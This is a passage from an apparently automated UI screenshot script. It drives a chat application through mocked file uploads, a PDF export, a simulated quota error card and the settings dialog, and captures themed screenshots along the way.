    await page.evaluate(() => window.__mock.drop(["/home/me/Documents/board-scans.pdf", "/home/me/Documents/big-deck.pdf", "/home/me/Documents/logo.png"], "attachment"));
    await page.waitForSelector(`${$("upload-row")}[data-state=uploading]`);
    await shot(`upload-drawer-${theme}`);
    await page.click("button[aria-label='Close activity']");
    await page.keyboard.press("Control+e");
    await page.selectOption($("export-format"), "pdf");
    await shot(`export-dialog-${theme}`);
    await page.click($("export-run"));
    await page.waitForSelector($("export-saved"));
    await shot(`export-saved-${theme}`);
    await page.keyboard.press("Escape");
    await page.evaluate(() => window.__mock.fail("send_message", "quota"));
    await send(page, "One more please");
    await card(page, "quota").waitFor();
    await card(page, "quota").locator("button:has-text('Details')").click();
    await shot(`error-card-${theme}`);
    await page.keyboard.press("Control+,");
    await page.waitForSelector($("settings-dialog"));
    await shot(`settings-${theme}`);
  });
}

await run();
